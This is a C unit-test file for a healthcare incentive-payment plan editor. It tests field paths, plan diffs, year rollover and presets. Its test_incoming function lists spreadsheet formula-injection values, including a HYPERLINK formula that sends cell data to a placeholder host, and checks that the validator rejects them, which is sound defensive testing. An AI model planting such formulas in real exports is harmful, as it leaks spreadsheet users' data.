/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The fields of a plan by their paths, what differs between two plans, and plans to begin with. */
#include "gain-plan-field.h"
#include "gain-payee-words.h"
#include "gain-plan-choices.h"
#include "gain-plan-preset.h"
#include "gain-plan-year.h"
#include "plan-draft.h"
#include "score-rows.h"

static const char *const group_names[] = {
  "id", "label", "weight", "members.role", "members.affiliation", "members.specialty",
  "members.department", "members.practice_tin", "members.group", "members.id", "exclude", "payee",
  "base", "prorate", "missing", "small_numbers", "cap", "min_payment", "residue", "show_dollars",
  "within", "within.shares.provider", "within.shares.staff", "within.base",
};

static GainPlan *
small_plan (void)
{
  GainPlan *plan = gain_plan_new ();
  GainPlanGroup *group = gain_plan_add_group (plan, "all");

  plan->title = g_strdup ("A");
  plan->performance_year = YEAR;
  plan->pool = 100000;
  group->weight = S;
  group->residue = GAIN_RESIDUE_RESERVE;
  gain_plan_group_add_measure (group, "AWV", 40 * S);
  return plan;
}

static void
assert_field (const GainPlan *plan, const char *path, const char *text)
{
  g_autofree char *found = gain_plan_get_field (plan, path);

  g_assert_cmpstr (found, ==, text);
}

static void
set (GainPlan *plan, const char *path, const char *text)
{
  g_assert_true (gain_plan_set_field (plan, path, text));
}

static void
test_set (void)
{
  g_autoptr (GainPlan) plan = small_plan ();
  const GainPlanGroup *group = g_ptr_array_index (plan->groups, 0);
  g_autoptr (GError) error = NULL;

  set (plan, "pool.amount", "$1,234.56");
  assert_field (plan, "pool.amount", "1234.56");
  set (plan, "split.participants", "92%");
  set (plan, "split.infrastructure", "8");
  set (plan, "groups[0].members.role", "pcp; app;");
  g_assert_cmpuint (g_strv_length (group->members[GAIN_MEMBERS_ROLE]), ==, 2);
  assert_field (plan, "groups[0].members.role", "pcp; app");
  set (plan, "groups[0].cap", "45,000");
  g_assert_cmpint (group->cap, ==, 4500000);
  set (plan, "groups[0].cap", "");
  g_assert_cmpint (group->cap, ==, GAIN_NULL);
  set (plan, "groups[0].small_numbers", "Baseline");
  g_assert_cmpint (group->small_numbers, ==, GAIN_RULE_TIER);
  assert_field (plan, "groups[0].small_numbers", "Baseline");
  set (plan, "groups[0].small_numbers", "practice");
  set (plan, "groups[0].measures[0].weight", "12.5");
  assert_field (plan, "groups[0].measures[0].weight", "12.5");
  set (plan, "groups[0].residue", "redesign");
  g_assert_true (gain_plan_check (plan, &error));
  g_assert_no_error (error);
}

static void
test_wrong (void)
{
  g_autoptr (GainPlan) plan = small_plan ();

  g_assert_false (gain_plan_set_field (plan, "pool.amount", "much"));
  g_assert_false (gain_plan_set_field (plan, "performance_year", "0"));
  g_assert_false (gain_plan_set_field (plan, "groups[4294967296].cap", "1"));
  g_assert_null (gain_plan_get_field (plan, "groups[18446744073709551616].cap"));
  g_assert_false (gain_plan_set_field (plan, "groups[1].cap", "1"));
  g_assert_false (gain_plan_set_field (plan, "groups[0].measures[7].weight", "1"));
  g_assert_false (gain_plan_set_field (plan, "groups[0].payee", "nobody"));
  g_assert_false (gain_plan_set_field (plan, "groups[x].payee", "provider"));
  g_assert_false (gain_plan_set_field (plan, "groups[0].split", "1"));
  g_assert_null (gain_plan_get_field (plan, "no.such"));
}

/* Every fault of a check starts with a path that an editor can find, or one that leads to its
 * list. */
static void
test_residue_is_asked (void)
{
  g_autoptr (GainPlan) plan = small_plan ();
  g_autoptr (GError) error = NULL;

  set (plan, "groups[0].residue", "");
  assert_field (plan, "groups[0].residue", "");
  g_assert_false (gain_plan_check (plan, &error));
  g_assert_true (g_str_has_prefix (error->message, "groups[0].residue:"));
}

/* What is read from one plan and written to another makes it the same. */
static void
test_round_trip (void)
{
  g_autoptr (GRand) rand = g_rand_new_with_seed (11);

  for (guint i = 0; i < 300; i++)
    {
      g_auto (Draft) draft = draft_new (rand);
      g_autoptr (GainPlan) plan = draft_plan (&draft, rand);
      g_autoptr (GainPlan) copy = gain_plan_copy (plan);
      g_autoptr (GPtrArray) lines = NULL;

      for (guint g = 0; g < plan->groups->len; g++)
        for (guint f = 0; f < G_N_ELEMENTS (group_names); f++)
          {
            g_autofree char *path = g_strdup_printf ("groups[%u].%s", g, group_names[f]);
            g_autofree char *text = gain_plan_get_field (plan, path);

            g_assert_nonnull (text);
            set (copy, path, text);
            assert_field (copy, path, text);
          }
      lines = gain_plan_diff (plan, copy, NULL);
      g_assert_cmpuint (lines->len, ==, 0);
    }
}

static void
test_diff (void)
{
  g_autoptr (GainPlan) before = small_plan ();
  g_autoptr (GainPlan) after = gain_plan_copy (before);
  g_autoptr (GPtrArray) lines = NULL;

  set (after, "pool.amount", "2000");
  set (after, "groups[0].cap", "500");
  set (after, "groups[0].measures[0].weight", "50");
  gain_plan_add_group (after, "staff");
  lines = gain_plan_diff (before, after, NULL);
  g_assert_cmpuint (lines->len, ==, 4);
  g_assert_cmpstr (g_ptr_array_index (lines, 0), ==, "Pool: $1,000.00 → $2,000.00");
  g_assert_cmpstr (g_ptr_array_index (lines, 1), ==,
                   "all · Most one payee is paid: nothing → $500.00");
  g_assert_cmpstr (g_ptr_array_index (lines, 2), ==, "all · Measures: AWV 40 → AWV 50");
  g_assert_cmpstr (g_ptr_array_index (lines, 3), ==, "Group “staff” is new");
}

/* A group that is being written has no id yet: it is one without a name, and no other. */
static void
test_diff_without_id (void)
{
  g_autoptr (GainPlan) before = small_plan ();
  g_autoptr (GainPlan) after = gain_plan_copy (before);
  g_autoptr (GPtrArray) lines = NULL;
  GainPlanGroup *group = gain_plan_add_group (after, "");

  g_clear_pointer (&group->id, g_free);
  lines = gain_plan_diff (before, after, NULL);
  g_assert_cmpuint (lines->len, ==, 1);
  g_assert_cmpstr (g_ptr_array_index (lines, 0), ==, "Group “” is new");
  g_clear_pointer (&lines, g_ptr_array_unref);
  lines = gain_plan_diff (after, before, NULL);
  g_assert_cmpuint (lines->len, ==, 1);
  g_assert_cmpstr (g_ptr_array_index (lines, 0), ==, "Group “” is gone");
}

/* In words, a TIN masked; a list that goes on is another one, and so is another order. */
static void
test_diff_words (void)
{
  g_autoptr (GainPlan) before = small_plan ();
  g_autoptr (GainPlan) after = NULL;
  g_autoptr (GPtrArray) lines = NULL;
  gpointer first;

  gain_plan_add_group (before, "staff");
  set (before, "groups[0].members.id", "a;b;c;d;e;f;g");
  after = gain_plan_copy (before);
  set (after, "groups[0].members.id", "a;b;c;d;e;f;h");
  set (after, "groups[0].residue", "redesign");
  set (after, "groups[0].show_dollars", "false");
  set (after, "groups[1].members.practice_tin", "123456789");
  first = g_ptr_array_steal_index (after->groups, 0);
  g_ptr_array_add (after->groups, first);
  lines = gain_plan_diff (before, after, NULL);
  g_assert_cmpuint (lines->len, ==, 5);
  g_assert_cmpstr (g_ptr_array_index (lines, 0), ==,
                   "staff · Practices, by TIN: nothing → •••••6789");
  g_assert_cmpstr (g_ptr_array_index (lines, 1), ==,
                   "all · People, by ID: a, b, c, d, e, f and 1 more → a, b, c, d, e, f and 1 more");
  g_assert_nonnull (strstr (g_ptr_array_index (lines, 2), "→ To care redesign"));
  g_assert_cmpstr (g_ptr_array_index (lines, 3), ==, "all · Scorecards print dollars: yes → no");
  g_assert_cmpstr (g_ptr_array_index (lines, 4), ==, "Order of groups: all, staff → staff, all");
}

/* A measure is called as in lists; one that the catalog doesn't know, by its code. */
static void
test_measure_names (void)
{
  g_autoptr (GainTable) roster = gain_table_new (GAIN_KIND_ROSTER);
  g_autoptr (GainTable) measures = gain_table_new (GAIN_KIND_MEASURES);
  g_autoptr (GainTable) schemes = gain_table_new (GAIN_KIND_SCHEMES);
  g_autoptr (GainTable) targets = gain_table_new (GAIN_KIND_TARGETS);
  g_autoptr (GainCatalog) catalog = NULL;
  g_autoptr (GainPlan) before = small_plan ();
  g_autoptr (GainPlan) after = gain_plan_copy (before);
  g_autoptr (GPtrArray) lines = NULL;
  g_autofree char *weight = NULL;
  g_autofree char *fault = NULL;
  guint row;

  row = gain_table_append (measures, 0);
  gain_table_set_text (measures, row, GAIN_MEASURES_CODE, "AWV");
  gain_table_set_text (measures, row, GAIN_MEASURES_TITLE, "Annual wellness visit");
  gain_table_set_int (measures, row, GAIN_MEASURES_DOMAIN, 0);
  gain_table_set_int (measures, row, GAIN_MEASURES_UNIT, 0);
  gain_table_set_int (measures, row, GAIN_MEASURES_DIRECTION, 0);
  catalog = gain_catalog_new (roster, measures, schemes, targets);
  set (after, "groups[0].measures[0].weight", "50");
  lines = gain_plan_diff (before, after, catalog);
  g_assert_cmpuint (lines->len, ==, 1);
  g_assert_cmpstr (g_ptr_array_index (lines, 0), ==,
                   "all · Measures: Annual wellness visit 40 → Annual wellness visit 50");
  weight = gain_plan_path_words (before, catalog, "groups[0].measures[0].weight");
  g_assert_cmpstr (weight, ==, "all · Annual wellness visit · Weight");
  set (after, "groups[0].measures[0].code", "OLD");
  fault = gain_plan_fault_words (after, catalog, "groups[0].measures[0].weight: it is negative");
  g_assert_cmpstr (fault, ==, "all · OLD · Weight: it is negative");
}

/* The rules stay; what names the year moves with it. */
static void
test_next_year (void)
{
  g_autoptr (GainPlan) plan = small_plan ();
  GainPlanGroup *group = g_ptr_array_index (plan->groups, 0);
  const GainGate gates[] = { { .kind = GAIN_GATE_ACTIVE_ON, .date = 20240229 },
                             { .kind = GAIN_GATE_ATTENDANCE, .min = 2 } };
  g_autoptr (GainPlan) next = NULL;
  g_autoptr (GainPlan) again = NULL;
  const GainPlanGroup *moved;

  plan->performance_year = 2024;
  g_free (plan->title);
  plan->title = g_strdup ("Five tiers");
  g_array_append_vals (group->gates, gates, G_N_ELEMENTS (gates));
  next = gain_plan_copy_to_year (plan, 2025);
  moved = g_ptr_array_index (next->groups, 0);
  g_assert_cmpstr (next->title, ==, "Five tiers, 2025");
  g_assert_cmpint (next->performance_year, ==, 2025);
  g_assert_cmpint (next->pool, ==, plan->pool);
  g_assert_cmpuint (moved->measures->len, ==, group->measures->len);
  g_assert_cmpint (g_array_index (moved->gates, GainGate, 0).date, ==, 20250228);
  g_assert_cmpint (g_array_index (moved->gates, GainGate, 1).min, ==, 2);
  g_assert_cmpint (plan->performance_year, ==, 2024);
  again = gain_plan_copy_to_year (next, 2026);
  g_assert_cmpstr (again->title, ==, "Five tiers, 2026");
}

/* Long enough for any; counted in letters, not in bytes. */
static void
test_title (void)
{
  g_autoptr (GString) title = g_string_new (NULL);
  g_autoptr (GError) error = NULL;

  for (guint i = 0; i < GAIN_PLAN_MOST_TITLE; i++)
    g_string_append (title, "é");
  g_assert_true (gain_plan_check_title (title->str, &error));
  g_assert_no_error (error);
  g_string_append (title, "é");
  g_assert_false (gain_plan_check_title (title->str, &error));
  g_assert_error (error, GAIN_PLAN_ERROR, GAIN_PLAN_ERROR_INVALID);
  g_assert_cmpstr (error->message, ==, "title: it has 121 letters; a title has 120 at most");
}

/* The ledger is for programs and guards nothing, so what a spreadsheet would work out doesn't come in. */
static void
test_incoming (void)
{
  static const char *const ids[]
    = { "=HYPERLINK(\"http://x.test/?\"&A2,\"click\")", "+1", "-1", "@SUM(1,1)", "\t=1", "\uFF1D1", "\uFF20SUM(1,1)" };
  g_autoptr (GainPlan) plan = gain_plan_new ();
  g_autoptr (GError) error = NULL;

  g_free (plan->title);
  plan->title = g_strdup ("Plan");
  gain_plan_add_group (plan, "pcp=1");
  g_assert_true (gain_plan_check_incoming (plan, &error));
  g_assert_no_error (error);
  for (guint i = 0; i < G_N_ELEMENTS (ids); i++)
    {
      GainPlanGroup *group = g_ptr_array_index (plan->groups, 0);

      g_free (group->id);
      group->id = g_strdup (ids[i]);
      g_assert_false (gain_plan_check_incoming (plan, &error));
      g_assert_error (error, GAIN_PLAN_ERROR, GAIN_PLAN_ERROR_INVALID);
      g_assert_true (g_str_has_prefix (error->message, "groups[0].id: a spreadsheet could take"));
      g_clear_error (&error);
    }
}

/* What is pasted into a field stands in one line, as it must where a plan comes from a file. */
static void
test_one_line (void)
{
  g_autoptr (GainPlan) plan = gain_plan_new ();
  g_autofree char *label = NULL;

  gain_plan_add_group (plan, "pcp");
  g_assert_true (gain_plan_set_field (plan, "groups[0].label", "Primary\ncare\tand more"));
  label = gain_plan_get_field (plan, "groups[0].label");
  g_assert_cmpstr (label, ==, "Primary care and more");
}

/* Every field that can be spoken of has a name, and no two have the same. */
static void
test_paths (void)
{
  g_autoptr (GRand) rand = g_rand_new_with_seed (3);

  for (guint i = 0; i < 100; i++)
    {
      g_auto (Draft) draft = draft_new (rand);
      g_autoptr (GainPlan) plan = draft_plan (&draft, rand);
      g_autoptr (GPtrArray) paths = gain_plan_paths (plan);

      for (guint p = 0; p < paths->len; p++)
        {
          const char *path = g_ptr_array_index (paths, p);
          g_autofree char *words = gain_plan_path_words (plan, NULL, path);
          g_autofree char *text = gain_plan_get_field (plan, path);

          g_assert_nonnull (words);
          g_assert_nonnull (text);
        }
    }
}

static void
test_path_words (void)
{
  g_autoptr (GainPlan) plan = small_plan ();
  g_autofree char *pool = gain_plan_path_words (plan, NULL, "pool.amount");
  g_autofree char *cap = gain_plan_path_words (plan, NULL, "groups[0].cap");
  g_autofree char *weight = gain_plan_path_words (plan, NULL, "groups[0].measures[0].weight");
  g_autofree char *group = gain_plan_path_words (plan, NULL, "groups[0]");
  g_autofree char *gone = gain_plan_path_words (plan, NULL, "groups[1].cap");

  g_assert_cmpstr (pool, ==, "Pool");
  g_assert_cmpstr (cap, ==, "all · Most one payee is paid");
  g_assert_cmpstr (weight, ==, "all · AWV · Weight");
  g_assert_cmpstr (group, ==, "all");
  g_assert_cmpstr (gone, ==, "Most one payee is paid");
}

static const GainPlanChoice *
find_choice (const GPtrArray *choices, const char *value)
{
  for (guint i = 0; i < choices->len; i++)
    if (strcmp (((GainPlanChoice *) g_ptr_array_index (choices, i))->value, value) == 0)
      return g_ptr_array_index (choices, i);
  return NULL;
}

/* What the roster holds can be chosen, and what the plan names already; a TIN is not shown whole. */
static void
test_choices (void)
{
  const char *const names[] = { "Cardiology", "Alchemy; old", NULL };
  char **chosen = (char **) names;
  g_auto (Rows) rows = rows_new ();
  g_autoptr (GainScores) scores = NULL;
  g_autoptr (GainPlan) plan = small_plan ();
  g_autoptr (GPtrArray) specialties = NULL;
  g_autoptr (GPtrArray) practices = NULL;
  g_autoptr (GPtrArray) roles = NULL;
  g_autofree char *words = NULL;

  add_person (&rows, "a", GAIN_ROLE_SPECIALIST, "Cardiology");
  add_person (&rows, "b", GAIN_ROLE_SPECIALIST, "Cardiology");
  add_person (&rows, "c", GAIN_ROLE_PCP, NULL);
  scores = score_year (&rows);
  g_assert_true (gain_plan_set_list (plan, "groups[0].members.specialty", chosen));
  g_assert_false (gain_plan_set_list (plan, "groups[0].cap", chosen));
  specialties = gain_plan_choices (scores->facts->catalog, GAIN_MEMBERS_SPECIALTY,
                                   gain_plan_get_list (plan, "groups[0].members.specialty"));
  practices = gain_plan_choices (scores->facts->catalog, GAIN_MEMBERS_PRACTICE_TIN, NULL);
  roles = gain_plan_choices (scores->facts->catalog, GAIN_MEMBERS_ROLE, NULL);
  words = gain_plan_choices_words (specialties, chosen);
  g_assert_cmpuint (specialties->len, ==, 2);
  g_assert_cmpuint (find_choice (specialties, "Cardiology")->n, ==, 2);
  g_assert_cmpuint (find_choice (specialties, "Alchemy; old")->n, ==, 0);
  g_assert_cmpstr (find_choice (practices, "111111111")->label, ==, "Elm · •••••1111");
  g_assert_cmpuint (roles->len, ==, 2);
  g_assert_cmpstr (find_choice (roles, "pcp")->label, ==, "Primary care");
  g_assert_cmpstr (words, ==, "Cardiology; Alchemy; old");
}

/* The place in words, and the path behind it for whoever looks into the file. */
static void
test_fault_said (void)
{
  g_autoptr (GainPlan) plan = small_plan ();
  g_autofree char *cap = gain_plan_fault_said (plan, "groups[0].cap: “5x” is not a number.");
  g_autofree char *code = gain_plan_fault_said (plan, "groups[0].measures[0].code: no measure");
  g_autofree char *none = gain_plan_fault_said (plan, "The pool is too large.");

  g_assert_cmpstr (cap, ==, "all · Most one payee is paid: “5x” is not a number (groups[0].cap).");
  g_assert_cmpstr (code, ==, "all · AWV · Measure: no measure (groups[0].measures[0].code)");
  g_assert_cmpstr (none, ==, "The pool is too large.");
}

/* Further groups and measures begin as heavy as those beside them. */
static void
test_next_weight (void)
{
  g_autoptr (GainPlan) plan = small_plan ();
  GainPlanGroup *group = g_ptr_array_index (plan->groups, 0);
  g_autoptr (GainPlan) empty = gain_plan_new ();

  group->weight = 100 * S;
  g_assert_cmpint (gain_plan_next_weight (plan), ==, 100 * S);
  g_assert_cmpint (gain_plan_group_next_weight (group), ==, 40 * S);
  g_assert_cmpint (gain_plan_next_bearer_weight (plan), ==, 10 * S);
  g_assert_cmpint (gain_plan_next_weight (empty), ==, 10 * S);
}

static void
test_move_group (void)
{
  g_autoptr (GainPlan) plan = small_plan ();

  gain_plan_add_group (plan, "b");
  gain_plan_add_group (plan, "c");
  gain_plan_move_group (plan, 0, 2);
  assert_field (plan, "groups[0].id", "b");
  assert_field (plan, "groups[2].id", "all");
  gain_plan_move_group (plan, 2, 1);
  assert_field (plan, "groups[1].id", "all");
}

/* Each lacks nothing but the decision about unearned dollars. */
static void
test_presets (void)
{
  g_auto (Rows) rows = rows_new ();
  g_autoptr (GainScores) scores = NULL;

  add_measure (&rows, "AWV", GAIN_DOMAIN_QUALITY, GAIN_UNIT_PERCENT, GAIN_DIRECTION_HIGHER, 20);
  add_target (&rows, "AWV", 50, 60, 70);
  add_measure (&rows, "BARE", GAIN_DOMAIN_QUALITY, GAIN_UNIT_PERCENT, GAIN_DIRECTION_HIGHER, 20);
  add_person (&rows, "a", GAIN_ROLE_PCP, NULL);
  add_person (&rows, "b", GAIN_ROLE_SPECIALIST, NULL);
  gain_table_set_text (rows.roster, 1, GAIN_ROSTER_DEPARTMENT, "Cardiology");
  scores = score_year (&rows);
  for (guint p = 0; p < GAIN_N_PRESETS; p++)
    {
      g_autoptr (GainPlan) plan = gain_preset_plan (p, scores->facts, 100000);
      g_autoptr (GError) error = NULL;

      g_assert_false (gain_plan_check (plan, NULL));
      for (guint g = 0; g < plan->groups->len; g++)
        {
          GainPlanGroup *group = g_ptr_array_index (plan->groups, g);

          /* A measure without a target of the year can't be judged. */
          g_assert_cmpuint (group->measures->len, ==, p == GAIN_PRESET_UNIFORM ? 0 : 1);
          group->residue = GAIN_RESIDUE_REDISTRIBUTE;
        }
      gain_plan_check (plan, &error);
      g_assert_no_error (error);
      gain_plan_check_facts (plan, scores->facts, NULL, &error);
      g_assert_no_error (error);
      g_assert_nonnull (gain_preset_words[p]);
    }
}

/* A warning calls a group, a role and a measure as people do; a note says which number is 0. */
static void
test_names_in_warnings (void)
{
  g_auto (Rows) rows = rows_new ();
  g_autoptr (GainScores) scores = NULL;
  g_autoptr (GainPlan) plan = small_plan ();
  GainPlanGroup *group = g_ptr_array_index (plan->groups, 0);
  g_autoptr (GainLedger) ledger = NULL;
  g_autoptr (GError) error = NULL;
  g_autoptr (GString) all = g_string_new (NULL);
  g_autofree char *note = NULL;

  add_measure (&rows, "AWV", GAIN_DOMAIN_QUALITY, GAIN_UNIT_PERCENT, GAIN_DIRECTION_HIGHER, 20);
  add_target (&rows, "AWV", 50, 60, 70);
  add_person (&rows, "a", GAIN_ROLE_PCP, NULL);
  scores = score_year (&rows);
  group->label = g_strdup ("Primary care");
  group->base = GAIN_BASE_LIVES;
  group->residue = GAIN_RESIDUE_REDISTRIBUTE;
  group->members[GAIN_MEMBERS_ROLE] = g_strsplit ("pcp app", " ", -1);
  scores->facts->has_panel = TRUE;
  ledger = gain_run_plan (plan, scores->facts, GAIN_NULL, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < ledger->warnings->len; i++)
    {
      g_autofree char *words = gain_plan_fault_words (plan, scores->facts->catalog,
                                                      g_ptr_array_index (ledger->warnings, i));

      g_string_append_printf (all, "%s\n", words);
    }
  g_assert_nonnull (strstr (all->str, "“NPs and PAs” (app) fits nobody on the roster"));
  g_assert_nonnull (strstr (all->str, "“Primary care” redistributes unearned dollars"));
  g_assert_nonnull (strstr (all->str, "the base of “Primary care” adds up to 0"));
  note = gain_payee_note (ledger, &ledger->groups[0], &ledger->groups[0].payees[0]);
  g_assert_cmpstr (note, ==, "Nothing to earn: the panel of 2025 has no attributed patients for it, and the "
                             "money is divided by them");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/plan-field/set", test_set);
  g_test_add_func ("/plan-field/wrong", test_wrong);
  g_test_add_func ("/plan-field/next-year", test_next_year);
  g_test_add_func ("/plan-field/title", test_title);
  g_test_add_func ("/plan-field/incoming", test_incoming);
  g_test_add_func ("/plan-field/measure-names", test_measure_names);
  g_test_add_func ("/plan-field/residue-is-asked", test_residue_is_asked);
  g_test_add_func ("/plan-field/round-trip", test_round_trip);
  g_test_add_func ("/plan-field/diff", test_diff);
  g_test_add_func ("/plan-field/diff-without-id", test_diff_without_id);
  g_test_add_func ("/plan-field/diff-words", test_diff_words);
  g_test_add_func ("/plan-field/one-line", test_one_line);
  g_test_add_func ("/plan-field/paths", test_paths);
  g_test_add_func ("/plan-field/path-words", test_path_words);
  g_test_add_func ("/plan-field/choices", test_choices);
  g_test_add_func ("/plan-field/fault-said", test_fault_said);
  g_test_add_func ("/plan-field/names-in-warnings", test_names_in_warnings);
  g_test_add_func ("/plan-field/next-weight", test_next_weight);
  g_test_add_func ("/plan-field/move-group", test_move_group);
  g_test_add_func ("/plan-field/presets", test_presets);
  return g_test_run ();
}
